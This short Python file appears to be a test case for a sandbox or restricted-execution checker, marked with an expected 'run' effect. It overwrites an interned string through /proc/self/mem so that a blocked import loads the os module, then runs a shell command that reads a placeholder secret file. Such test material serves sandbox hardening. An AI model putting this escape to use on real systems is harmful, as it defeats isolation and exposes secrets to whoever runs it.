# /proc/self/mem rewrites a constant: the name of a forbidden module in a code object.
# effect: run
def work():
    return __import__("zz")
name = "zz"
address = id(name)
import sys
with open("/proc/self/mem", "r+b", 0) as memory:
    memory.seek(address + sys.getsizeof("") - 1)
    memory.write(b"os")
work().system("cat @SECRET@")
